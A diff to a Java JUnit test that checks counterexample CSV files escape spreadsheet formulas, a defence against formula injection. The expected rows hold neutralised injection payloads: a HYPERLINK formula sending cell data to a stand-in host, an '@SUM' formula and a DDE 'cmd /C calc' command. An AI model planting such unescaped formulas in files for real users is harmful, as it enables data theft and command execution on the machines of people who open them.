@@ -6,6 +6,7 @@ import static org.junit.platform.engine.discovery.DiscoverySelectors.selectMetho
 
 import dev.mltest.data.InMemoryTable;
 import dev.mltest.engine.Constants;
+import dev.mltest.engine.property.fixtures.FormulaProperties;
 import dev.mltest.engine.property.fixtures.ScalerProperties;
 import java.io.IOException;
 import java.nio.file.Files;
@@ -73,6 +74,35 @@ class PropertyExecutionTest {
         .containsExactly("original.csv", "shrunk.csv");
     assertThat(Files.readString(files.get(1))).isEqualTo("currency,amount\nEUR,0.0\n");
     assertThat(Files.readString(files.get(0))).startsWith("currency,amount\n");
+  }
+
+  /**
+   * Issue #11: generated text from a hostile contract stays text when a reviewer opens the file.
+   */
+  @Test
+  void counterexampleFilesNeutraliseSpreadsheetFormulas() throws IOException {
+    EngineExecutionResults results =
+        PropertyKit.engine(
+                dir,
+                selectMethod(FormulaProperties.class, "alwaysFails", InMemoryTable.class.getName()))
+            .execute();
+    results.testEvents().assertStatistics(s -> s.started(1).failed(1));
+    List<Path> files = PropertyKit.files(results);
+    assertThat(files).hasSize(2);
+    for (Path file : files) {
+      List<String> lines = Files.readAllLines(file);
+      assertThat(lines.get(0)).as("header of %s", file).isEqualTo("'=cell");
+      assertThat(lines.subList(1, lines.size()))
+          .as("rows of %s", file)
+          .isNotEmpty()
+          .allSatisfy(
+              line ->
+                  assertThat(line)
+                      .isIn(
+                          "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\"",
+                          "'@SUM(1+1)",
+                          "'+cmd|' /C calc'!A0"));
+    }
   }
 
   @Test
